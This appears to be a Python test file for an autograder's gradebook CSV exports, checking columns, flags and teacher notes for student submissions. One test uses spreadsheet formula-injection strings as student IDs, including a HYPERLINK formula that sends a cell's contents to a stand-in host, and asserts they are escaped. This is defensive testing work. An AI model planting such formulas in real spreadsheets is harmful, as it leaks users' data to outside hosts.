from __future__ import annotations

import csv
import io
from pathlib import Path

from autograder.render.gradebook_csv import grades_csv, nbgrader_csv

from class_records import batch_of, record, wrong_mirror
from every_exercise import NAMES, TOTAL, full_marks

# a record's points for every exercise, total and max; wrong_mirror() earns 1 point
FULL = [*(f'{points:g}' for points in full_marks().values()), f'{TOTAL:g}', f'{TOTAL:g}']
BOB = [*(f'{points:g}' for points in full_marks(mirror=1).values()),
       f'{sum(full_marks(mirror=1).values()):g}', f'{TOTAL:g}']


def test_grades_csv_has_fixed_columns_and_one_row_per_student() -> None:
    batch = batch_of(record('ada'), record('bob, jr', wrong_mirror(), notes=('handed in late',)))
    assert grades_csv(batch) == (
        ','.join(['student', 'name', *NAMES, 'total', 'max', 'flags', 'isolation', 'notes'])
        + '\n' + ','.join(['ada', '', *FULL, '', 'process-group', '']) + '\n'
        + ','.join(['"bob, jr"', '', *BOB, 'hard-coded', 'process-group',
                    'handed in late; mirror hard-coded: mirror knows only a few boards'])
        + '\n')


def test_nbgrader_csv_has_the_export_columns() -> None:
    batch = batch_of(record('2001'), names={'2001': 'Jane van Doe'})
    assert nbgrader_csv(batch) == (
        'assignment,duedate,timestamp,student_id,last_name,first_name,email,raw_score,'
        'late_submission_penalty,score,max_score\n'
        f'hexapawn,,,2001,Doe,Jane van,,{float(TOTAL)},0.0,{float(TOTAL)},{float(TOTAL)}\n')


def test_cells_that_start_like_formulas_are_quoted_in_both_gradebooks() -> None:
    ids = ('=HYPERLINK("http://x.example/?"&A1,"ok")', '+1+41', '-2+3', '@SUM(A1)',
           '\tTAB', '\rCR', 'ada-=1')
    batch = batch_of(*(record(i, notes=('=1+1',)) for i in ids), names={'+1+41': '=A1 B'})
    rows = list(csv.reader(io.StringIO(grades_csv(batch), newline='')))[1:]
    assert [row[0] for row in rows] == ["'" + i for i in ids[:-2]] + ["'\nCR", 'ada-=1']
    assert rows[1] == ["'+1+41", "'=A1 B", *FULL, '', 'process-group', "'=1+1"]
    nbgrader = list(csv.reader(io.StringIO(nbgrader_csv(batch), newline='')))[1:]
    total = str(float(TOTAL))
    assert nbgrader[1] == ['hexapawn', '', '', "'+1+41", 'B', "'=A1", '', total, '0.0', total,
                           total]


def test_a_carriage_return_cannot_start_a_row_of_its_own() -> None:
    batch = batch_of(record('eve\r=1+1,10,10'), record('ada\r\nbob'))
    rows = list(csv.reader(io.StringIO(grades_csv(batch), newline='')))
    assert [row[0] for row in rows] == ['student', 'eve\n=1+1,10,10', 'ada\nbob']


def test_the_notes_say_why_a_row_needs_a_look(tmp_path: Path) -> None:
    """A teacher reading the CSV alone knows why: a misnamed file, a syntax error (a
    flag of its own), a loop that never ends, and right numbers not computed."""
    from autograder.classroom.batch import grade_class
    from autograder.records import Found, Student

    from class_records import PIECES, fast_config

    folder = tmp_path / 'eve'
    folder.mkdir()
    (folder / 'mirorr.py').write_text('def mirror(board):\n    return board\n')
    (folder / 'winner.py').write_text('def winner(board, side)\n    return ""\n')
    (folder / 'count_boxes.py').write_bytes(
        (PIECES / 'count_boxes' / 'hard_coded.py').read_bytes())
    loop = tmp_path / 'lou'
    loop.mkdir()
    (loop / 'mirror.py').write_text('while True:\n    pass\ndef mirror(board):\n'
                                    '    return board\n')
    _, config = fast_config(tmp_path)
    batch = grade_class(Found('folders', (Student('eve', folder), Student('lou', loop))),
                        config, 'floor', 1, None)
    rows = {row['student']: row for row in csv.DictReader(io.StringIO(grades_csv(batch)))}
    assert rows['eve']['flags'] == 'hard-coded; not found; syntax error'
    assert rows['eve']['notes'] == (
        'it held count_boxes.py, mirorr.py, winner.py; '
        'mirror not found: there is no mirror.py: did you mean to name mirorr.py mirror.py?; '
        'winner syntax error: winner.py has a syntax error on line 1: expected \':\'; '
        'count_boxes hard-coded: count_boxes gave the same numbers when its moves() was '
        'replaced by other rules: it may return fixed numbers instead of counting (or it '
        'uses rules of its own); worth a look.')
    assert rows['lou']['flags'] == 'not found; timeout'
    assert rows['lou']['notes'].startswith(
        'it held mirror.py; mirror timeout: mirror.py did not finish loading within 2 s: is '
        'there an endless loop outside the functions?; winner not found: there is no '
        'winner.py here')
